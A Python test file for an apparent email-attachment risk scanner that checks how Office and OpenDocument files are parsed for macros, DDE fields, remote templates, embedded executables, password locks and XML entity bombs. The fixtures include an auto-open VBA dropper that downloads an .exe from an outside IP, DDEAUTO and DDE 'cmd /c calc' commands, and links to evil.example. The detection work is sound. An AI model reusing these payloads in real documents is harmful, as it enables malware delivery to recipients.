"""Office documents old and new: text, links, macros, objects, templates, locks."""

from __future__ import annotations

import io
import struct
import zlib
from functools import cache
from hashlib import md5, sha256

import pytest
from msoffcrypto.format.ooxml import OOXMLFile  # type: ignore[import-untyped]
from msoffcrypto.method.rc4 import DocumentRC4  # type: ignore[import-untyped]
from tests.collect.files.papers import (
    LURE,
    budget,
    detail,
    docx,
    names,
    native_package,
    ole,
    package,
    project,
    relationships,
    urls,
)

from mailrisk.collect.files import odf, office
from mailrisk.collect.files import ole as legacy
from mailrisk.collect.files.vba import decompress
from mailrisk.model.errors import BadInput, TooLarge

DROPPER = """Sub AutoOpen()
Set s = CreateObject("WScr" & "ipt.Shell")
URLDownloadToFile 0, "http://203.0.113.9/a.exe", "a.exe", 0, 0
End Sub
"""
HONEST = """Sub SumColumns()
' Shell is only mentioned here
Range("A1").Value = 2
End Sub
"""


def test_text_and_hyperlinks_of_a_document_are_read() -> None:
    found = office.read(docx("Salary <!--x-->table".replace("<!--x-->", ""), ("hyperlink", LURE)), budget())
    assert found.text == "Salary table"
    assert [(link.url, link.artefact) for link in found.links] == [(LURE, "link 1")]
    assert not found.traits


def test_a_template_from_outside_is_told() -> None:
    parts = {
        "word/_rels/settings.xml.rels": relationships(("attachedTemplate", "https://evil.example/t.dotm"))
    }
    assert (
        detail(office.read(docx(parts=parts), budget()), "remote-template") == "https://evil.example/t.dotm"
    )
    local = {"word/_rels/settings.xml.rels": relationships(("attachedTemplate", "file:///C:/T/Normal.dotm"))}
    assert not office.read(docx(parts=local), budget()).traits


def test_objects_and_pictures_from_outside_are_told() -> None:
    found = office.read(docx("x", ("oleObject", "mhtml:https://evil.example/x!y"), ("image", "http://p.example/1.png")), budget())  # fmt: skip
    assert detail(found, "external-link") == "oleobject mhtml:https://evil.example/x!y"
    assert {(link.url, link.how) for link in found.links} == {
        ("https://evil.example/x!y", "frame"),
        ("http://p.example/1.png", "img"),
    }


def test_fields_spread_over_runs_are_joined() -> None:
    runs = "".join(
        f"<w:r><w:instrText>{piece}</w:instrText></w:r>"
        for piece in ("DDE", "AUTO c:\\\\windows\\\\cmd", ".exe /k x")
    )
    assert detail(office.read(docx(xml=f"<w:p>{runs}</w:p>"), budget()), "dde").startswith("DDEAUTO c:")


def test_macros_that_start_by_themselves_are_told_with_what_they_call() -> None:
    found = office.read(docx(parts={"word/vbaProject.bin": ole(project(DROPPER))}), budget())
    assert detail(found, "macro-autoexec") == "AutoOpen"
    calls = {trait.detail for trait in found.traits if trait.name == "macro-suspicious-call"}
    assert calls == {"runs WScript.Shell", "downloads URLDownloadToFile"}
    assert urls(found) == ["http://203.0.113.9/a.exe"]


def test_honest_macros_are_macros_and_nothing_more() -> None:
    found = office.read(docx(parts={"word/vbaProject.bin": ole(project(HONEST))}), budget())
    assert names(found) == {"macros"}


def test_a_project_without_a_directory_is_read_by_its_look() -> None:
    streams = project(DROPPER)
    streams["VBA/dir"] = b"\xff" * 50
    assert "macro-autoexec" in names(office.read(docx(parts={"word/vbaProject.bin": ole(streams)}), budget()))


def test_macros_whose_source_was_removed_are_told() -> None:
    streams = project("")
    streams["VBA/_VBA_PROJECT"] = b"\xcc" * 5_000
    assert "macro-without-source" in names(
        office.read(docx(parts={"word/vbaProject.bin": ole(streams)}), budget())
    )


def test_embedded_packages_are_members() -> None:
    embedded = ole({"\x01Ole10Native": native_package("bill.exe", b"MZ....")})
    found = office.read(docx(parts={"word/embeddings/oleObject1.bin": embedded}), budget())
    assert detail(found, "ole-package") == "bill.exe"
    assert [(member.name, member.data) for member in found.members] == [("bill.exe", b"MZ....")]


def test_a_workbook_gives_strings_formulas_and_macro_sheets() -> None:
    found = office.read(
        package(
            {
                "[Content_Types].xml": "<Types/>",
                "xl/workbook.xml": '<workbook><definedName name="_xlnm.Auto_Open">m!$A$1</definedName></workbook>',
                "xl/sharedStrings.xml": "<sst><si><t>Invoice</t></si><si><r><t>4</t></r><r><t>2</t></r></si></sst>",
                "xl/worksheets/sheet1.xml": f'<s><c><f>HYPERLINK("{LURE}","open")</f></c><c><is><t>Inline</t></is></c></s>',
                "xl/macrosheets/sheet1.xml": "<s><c><f>EXEC(1)</f></c></s>",
            }
        ),
        budget(),
    )
    assert found.text.splitlines() == ["Invoice", "42", "Inline"]
    assert [(link.url, link.artefact) for link in found.links] == [(LURE, "sheet 1, formula 1")]
    assert names(found) == {"xlm-macro", "xlm-autoexec"}


def test_slides_are_read_in_their_order() -> None:
    slide = "<p:sld><a:p><a:t>{}</a:t></a:p></p:sld>".replace("p:", "").replace("a:", "")
    parts = {f"ppt/slides/slide{n}.xml": slide.format(n) for n in (10, 2, 1)}
    assert office.read(package({"[Content_Types].xml": "<T/>", **parts}), budget()).text.split() == [
        "1",
        "2",
        "10",
    ]


@cache
def locked(password: str) -> bytes:
    """A document of some size behind a password: the library writes small ones wrongly."""
    noise = b"".join(sha256(bytes((n,))).digest() for n in range(256))
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(docx("Secret", parts={"word/noise.bin": noise}))).encrypt(password, out)
    return out.getvalue()


def test_a_locked_document_opens_with_a_password_of_the_message() -> None:
    found = legacy.read(locked("8899"), budget("8899"))
    assert detail(found, "opened-with-password") == "8899"
    assert office.read(found.members[0].data, budget()).text == "Secret"


def test_a_document_locked_with_excels_own_password_opens_by_itself() -> None:
    assert names(legacy.read(locked("VelvetSweatshop"), budget())) == {"encrypted", "opened-by-itself"}


def test_a_locked_document_is_told_when_nothing_fits() -> None:
    assert names(legacy.read(locked("8899"), budget("1"))) == {"encrypted", "locked"}


def test_a_document_that_wants_a_million_hashes_is_not_tried() -> None:
    data = locked("8899").replace(b'spinCount="100000"', b'spinCount="999999"')
    found = legacy.read(data, budget("8899"))
    assert names(found) == {"encrypted", "locked"}
    assert found.cuts == ("passwords: 0 of 2 were tried",)


def test_legacy_macros_and_links_are_read() -> None:
    streams = {**project(DROPPER, root="Macros/"), "WordDocument": b"see http://plain.example/a here"}
    found = legacy.read(ole(streams), budget())
    assert {"macros", "macro-autoexec", "macro-suspicious-call"} <= names(found)
    assert "http://plain.example/a" in urls(found)


def test_the_pieces_of_a_word_document_are_joined() -> None:
    header = bytearray(0x600)
    header[0x0A:0x0C] = struct.pack("<H", 0x0200)
    text = 'Pay \x13 HYPERLINK "https://pay.example/x" \x14here\x15'.encode("cp1252")
    wide = "工资".encode("utf-16-le")
    header[0x400 : 0x400 + len(text)] = text
    header[0x500 : 0x500 + len(wide)] = wide
    plc = struct.pack("<III", 0, len(text), len(text) + 2)
    plc += struct.pack("<HIH", 0, 0x40000000 | 0x800, 0) + struct.pack("<HIH", 0, 0x500, 0)
    clx = b"\x02" + struct.pack("<I", len(plc)) + plc
    header[0x1A2:0x1AA] = struct.pack("<II", 0, len(clx))
    found = legacy.read(ole({"WordDocument": bytes(header), "1Table": clx}), budget())
    assert "工资" in found.text and found.text.startswith("Pay")
    assert "https://pay.example/x" in urls(found)


def test_excel_records_tell_macro_sheets_and_locks() -> None:
    sheet = struct.pack("<HH", 0x85, 14) + struct.pack("<IBBBB", 0, 2, 1, 5, 0) + b"Macro1"
    auto = struct.pack("<HH", 0x18, 16) + struct.pack("<HBBHHH4x", 0x20, 0, 1, 0, 0, 0) + b"\0\x01"
    found = legacy.read(ole({"Workbook": sheet + auto}), budget())
    assert detail(found, "xlm-macro") == "very hidden sheet Macro1"
    assert detail(found, "xlm-autoexec") == "Auto_Open"
    assert "locked" in names(legacy.read(ole({"Workbook": struct.pack("<HH", 0x2F, 0)}), budget()))


def xls_locked(password: str) -> bytes:
    """A workbook with a DDE link behind RC4 (MS-XLS §2.2.10, MS-OFFCRYPTO §2.3.6)."""
    salt, verifier = bytes(range(16)), bytes(range(16, 32))
    proof = DocumentRC4.decrypt(password, salt, io.BytesIO(verifier + md5(verifier).digest())).read()
    lock = struct.pack("<HHHHH", 0x2F, 54, 1, 1, 1) + salt + proof
    start = struct.pack("<HH", 0x809, 16) + bytes(16) + lock
    link = struct.pack("<HB", 0, 0) + b"\0cmd\x03/c calc"
    plain = start + struct.pack("<HH", 0x1AE, len(link)) + link
    packed = DocumentRC4.decrypt(password, salt, io.BytesIO(plain), blocksize=1024).read()
    return ole({"Workbook": start + plain[len(start) : len(start) + 4] + packed[len(start) + 4 :]})


def test_a_legacy_workbook_locked_with_excels_own_password_is_read() -> None:
    found = legacy.read(xls_locked("VelvetSweatshop"), budget())
    assert names(found) >= {"encrypted", "opened-by-itself", "dde"}
    assert detail(found, "dde").endswith("cmd|/c calc")
    assert "opened-with-password" in names(legacy.read(xls_locked("8899"), budget("8899")))
    assert names(legacy.read(xls_locked("8899"), budget("1"))) == {"encrypted", "locked"}


def test_macros_and_packages_of_slides_are_found() -> None:
    macros = ole(project(DROPPER))
    held = ole({"\x01Ole10Native": native_package("a.exe", b"MZ")})
    records = b""
    for version, body in ((0x10, struct.pack("<I", len(macros)) + zlib.compress(macros)), (0, held)):
        records += struct.pack("<HHI", version, 0x1011, len(body)) + body
    found = legacy.read(ole({"PowerPoint Document": records}), budget())
    assert names(found) == {"macros", "macro-autoexec", "macro-suspicious-call", "ole-package"}
    assert [member.name for member in found.members] == ["a.exe"]


def test_open_document_macros_run_by_events_are_told() -> None:
    content = (
        '<o xmlns:x="x"><event-listener x:event-name="dom:load" x:href="vnd.sun.star.script:S.M.Main"/>'
        f'<p>Text <a x:href="{LURE}">open</a></p></o>'
    )
    found = odf.read(
        package({"mimetype": "x", "content.xml": content, "Basic/S/M.xml": 'Shell("cmd.exe /c calc")'}),
        budget(),
    )
    assert names(found) == {"macros", "macro-autoexec", "macro-suspicious-call"}
    assert (found.text, urls(found)) == ("Text open", [LURE])


def test_entities_are_refused_and_told() -> None:
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
    found = office.read(package({"[Content_Types].xml": "<T/>", "word/document.xml": bomb}), budget())
    assert found.defects == ("word/document.xml: declares entities",)


def test_a_part_that_unpacks_without_end_is_cut() -> None:
    found = office.read(docx(parts={"word/header1.xml": b"<w>" + b" " * 30_000_000}), budget())
    assert any("header1.xml" in cut for cut in found.cuts)


def test_a_package_of_too_many_entries_is_refused() -> None:
    with pytest.raises(TooLarge):
        office.read(package({"[Content_Types].xml": "", **{f"x{n}": "" for n in range(5_001)}}), budget())


@pytest.mark.parametrize("data", [b"", b"PK\x05\x06", b"PK\x03\x04" + b"\0" * 100, package({"a.txt": "x"})])
def test_what_is_no_document_is_refused(data: bytes) -> None:
    with pytest.raises(BadInput):
        office.read(data, budget())


def test_compressed_source_that_copies_from_nowhere_ends() -> None:
    assert decompress(b"\x01\x05\xb0\xff\xff\xff\xff\xff\xff", 0) == b""
